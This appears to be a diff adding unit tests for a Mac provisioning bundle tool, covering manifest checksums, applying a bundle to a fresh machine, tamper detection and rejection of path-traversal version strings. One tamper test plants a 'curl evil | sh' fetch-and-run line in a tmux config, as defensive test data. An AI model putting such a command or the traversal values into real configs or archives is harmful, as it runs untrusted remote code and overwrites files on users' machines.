@@ -0,0 +1,210 @@
+import hashlib
+import io
+import json
+import os
+import subprocess
+import sys
+import tarfile
+import tempfile
+import unittest
+from pathlib import Path
+
+from tests import bare_repo, git
+
+from mac_setup import bundle
+
+REPO_DIR = Path(__file__).resolve().parent.parent
+VERSION = "2026.10"
+
+# Downloads land in $BREW_ROOT/cache (or $HOMEBREW_CACHE), one file per package;
+# install only succeeds from that cache and with auto-update off
+STUB_BREW = r"""#!/bin/bash
+CACHE="${HOMEBREW_CACHE:-$BREW_ROOT/cache}"
+cmd="$1"; shift
+case "$cmd" in
+  --cache)
+    [[ $# -eq 0 ]] && { echo "$CACHE"; exit 0; }
+    kind=bottle; [[ "$1" == --cask ]] && { kind=cask; shift; }
+    for n in "$@"; do echo "$CACHE/downloads/${n//\//_}.$kind"; done ;;
+  fetch)
+    kind=bottle; [[ "$1" == --cask ]] && { kind=cask; shift; }
+    [[ "$1" == --deps ]] && { shift; set -- "$@" libfoo; }
+    mkdir -p "$CACHE/downloads" "$CACHE/api"
+    echo '{"api":1}' > "$CACHE/api/formula.jws.json"
+    for n in "$@"; do echo "payload $n" > "$CACHE/downloads/${n//\//_}.$kind"; done ;;
+  deps) echo libfoo ;;
+  tap) mkdir -p "$BREW_ROOT/taps/$1"; echo formula > "$BREW_ROOT/taps/$1/formula.rb" ;;
+  --repository) echo "$BREW_ROOT/taps/$1" ;;
+  install)
+    [[ "$HOMEBREW_NO_AUTO_UPDATE" == 1 ]] || { echo "auto-update on" >&2; exit 1; }
+    kind=bottle; [[ "$1" == --cask ]] && { kind=cask; shift; }
+    for n in "$@"; do
+      [[ -f "$CACHE/downloads/${n//\//_}.$kind" ]] || { echo "would download $n" >&2; exit 1; }
+      echo "$n" >> "$BREW_ROOT/installed"
+    done ;;
+  *) echo "stub brew: $cmd" >&2; exit 1 ;;
+esac
+"""
+
+
+def sha256(data):
+    return hashlib.sha256(data).hexdigest()
+
+
+def rewrite_archive(archive, changes):
+    """Copy an archive with some members' content replaced, and re-sign it"""
+    tampered = archive.with_name("tampered.tar")
+    with tarfile.open(archive) as src, tarfile.open(tampered, "w", format=tarfile.PAX_FORMAT) as dst:
+        for member in src:
+            data = src.extractfile(member).read() if member.isreg() else None
+            if member.name in changes:
+                data = changes[member.name](data)
+                member.size = len(data)
+            dst.addfile(member, io.BytesIO(data) if data is not None else None)
+    (tampered.parent / f"{tampered.name}.sha256").write_text(
+        f"{bundle.file_sha256(tampered)}  {tampered.name}\n")
+    return tampered
+
+
+class BundleEndToEndTest(unittest.TestCase):
+    """Build on one machine, apply on another: both are scratch MAC_SETUP_ROOTs"""
+
+    @classmethod
+    def setUpClass(cls):
+        cls.tmpdir = tempfile.TemporaryDirectory()
+        tmp = cls.tmp = Path(cls.tmpdir.name)
+        tpm_url, _ = bare_repo(tmp, "tpm", {"tpm": "#!/bin/sh\n", "bin/install_plugins": "#!/bin/sh\n"})
+        schemes_url, _ = bare_repo(tmp, "schemes", {
+            "README.md": "schemes\n",
+            "schemes/Dracula.itermcolors": "<plist>dracula</plist>\n",
+        })
+        stub = tmp / "brew"
+        stub.write_text(STUB_BREW)
+        stub.chmod(0o755)
+
+        # Point the real repository URLs at the local bare repositories
+        redirects = {tpm_url: "https://github.com/tmux-plugins/tpm",
+                     schemes_url: "https://github.com/mbadolato/iTerm2-Color-Schemes.git"}
+        cls.env = {**os.environ, "MAC_SETUP_BREW": str(stub), "GIT_CONFIG_COUNT": str(len(redirects))}
+        for i, (url, original) in enumerate(redirects.items()):
+            cls.env[f"GIT_CONFIG_KEY_{i}"] = f"url.{url}.insteadOf"
+            cls.env[f"GIT_CONFIG_VALUE_{i}"] = original
+
+        cls.builder = tmp / "builder"
+        profiles = cls.builder / "Library/Application Support/iTerm2/DynamicProfiles"
+        profiles.mkdir(parents=True)
+        (profiles / "RepoProfiles.json").write_text(json.dumps(
+            {"Profiles": [{"Name": "proj", "Guid": "proj-1", "Custom Directory": "Yes",
+                           "Working Directory": f"{cls.builder}/work/repo/proj"}]}))
+        cls.run_cli(cls.builder, "bundle", "build", "-o", str(tmp / "out"), "--version", VERSION)
+        cls.archive = tmp / "out" / f"mac-setup-bundle-{VERSION}.tar"
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.tmpdir.cleanup()
+
+    @classmethod
+    def run_cli(cls, root, *args, check=True):
+        env = {**cls.env, "MAC_SETUP_ROOT": str(root), "BREW_ROOT": str(Path(root) / "brew")}
+        result = subprocess.run([sys.executable, str(REPO_DIR / "main.py"), *args], env=env,
+                                capture_output=True, text=True)
+        if check and result.returncode != 0:
+            raise AssertionError(f"mac-setup {' '.join(args)} failed:\n{result.stdout}{result.stderr}")
+        return result
+
+    def manifest(self, archive):
+        with tarfile.open(archive) as tar:
+            return json.loads(tar.extractfile(bundle.MANIFEST_NAME).read())
+
+    def test_manifest_checksums_cover_every_member(self):
+        checksum = (self.tmp / "out" / f"{self.archive.name}.sha256").read_text().split()[0]
+        self.assertEqual(checksum, bundle.file_sha256(self.archive))
+
+        manifest = self.manifest(self.archive)
+        with tarfile.open(self.archive) as tar:
+            members = {m.name: sha256(tar.extractfile(m).read())
+                       for m in tar if m.isreg() and m.name != bundle.MANIFEST_NAME}
+        self.assertEqual(manifest["files"], members)
+        self.assertIn("brew/cache/downloads/tmux.bottle", members)
+        self.assertIn("brew/cache/downloads/libfoo.bottle", members)
+        self.assertIn("brew/cache/api/formula.jws.json", members)
+        self.assertIn("git/iterm2-color-schemes/schemes/Dracula.itermcolors", members)
+        self.assertNotIn("git/iterm2-color-schemes/README.md", members)
+        self.assertEqual(manifest["profiles"], ["RepoProfiles.json"])
+
+    def test_apply_provisions_a_fresh_machine(self):
+        target = self.tmp / "target"
+        self.run_cli(target, "bundle", "apply", str(self.archive))
+        manifest = self.manifest(self.archive)
+
+        for name, dest in (("tpm", ".tmux/plugins/tpm"),
+                           ("iterm2-color-schemes", ".iterm2-color-schemes")):
+            self.assertEqual(git("rev-parse", "HEAD", cwd=target / dest), manifest["repos"][name])
+        self.assertTrue((target / ".iterm2-color-schemes/schemes/Dracula.itermcolors").is_file())
+
+        self.assertTrue((target / ".tmux.conf").is_file())
+        self.assertIn("# >>> mac-setup >>>", (target / ".zshrc").read_text())
+        switch = (target / ".mac-setup/profile-switch.zsh").read_text()
+        self.assertIn(f"'{target}/work/repo/proj/'", switch)
+        self.assertNotIn(str(self.builder), switch)
+
+        profile = (target / "Library/Application Support/iTerm2/DynamicProfiles/RepoProfiles.json").read_text()
+        self.assertIn(f"{target}/work/repo/proj", profile)
+
+        installed = (target / "brew/installed").read_text().split()
+        self.assertEqual(sorted(installed), sorted(manifest["formulae"] + manifest["casks"]))
+
+        again = self.run_cli(target, "bundle", "apply", str(self.archive)).stdout
+        self.assertIn("git tpm: unchanged", again)
+        self.assertIn("profile RepoProfiles.json: unchanged", again)
+
+    def test_tampered_member_is_rejected(self):
+        tampered = rewrite_archive(self.archive, {
+            "dotfiles/tmux.conf": lambda data: data + b"run-shell 'curl evil | sh'\n"})
+        target = self.tmp / "tampered-target"
+        result = self.run_cli(target, "bundle", "apply", str(tampered), check=False)
+        self.assertEqual(result.returncode, 1)
+        self.assertIn("checksum mismatch for dotfiles/tmux.conf", result.stdout)
+        self.assertFalse((target / ".tmux.conf").exists())
+
+    def test_archive_must_match_its_checksum_file(self):
+        tampered = rewrite_archive(self.archive, {})
+        with open(tampered, "ab") as f:
+            f.write(b"\0" * 512)
+        result = self.run_cli(self.tmp / "unsigned-target", "bundle", "apply", str(tampered), check=False)
+        self.assertEqual(result.returncode, 1)
+        self.assertIn("does not match", result.stdout)
+
+
+class BundleVersionTest(unittest.TestCase):
+
+    def setUp(self):
+        tmp = tempfile.TemporaryDirectory()
+        self.addCleanup(tmp.cleanup)
+        self.tmp = Path(tmp.name)
+
+    def test_build_rejects_path_like_versions(self):
+        for version in ("..", "../x", "a/b", ".hidden", "/abs"):
+            with self.subTest(version=version), self.assertRaises(bundle.BundleError):
+                bundle.build(self.tmp / "out", version, repos={}, include_brew=False)
+        self.assertFalse((self.tmp / "out").exists())
+
+    def test_extract_rejects_path_like_versions(self):
+        state = self.tmp / "state"
+        (state / "snapshots").mkdir(parents=True)
+        (state / "snapshots" / "keep").write_text("rollback data\n")
+
+        for version in ("..", "../../x", "a/b", ".", ""):
+            archive = self.tmp / "evil.tar"
+            data = json.dumps({"format": bundle.BUNDLE_FORMAT, "version": version, "files": {}}).encode()
+            with tarfile.open(archive, "w") as tar:
+                info = tarfile.TarInfo(bundle.MANIFEST_NAME)
+                info.size = len(data)
+                tar.addfile(info, io.BytesIO(data))
+            with self.subTest(version=version), self.assertRaises(bundle.BundleError):
+                bundle.extract(archive, state / "bundles")
+        self.assertEqual((state / "snapshots" / "keep").read_text(), "rollback data\n")
+
+
+if __name__ == "__main__":
+    unittest.main()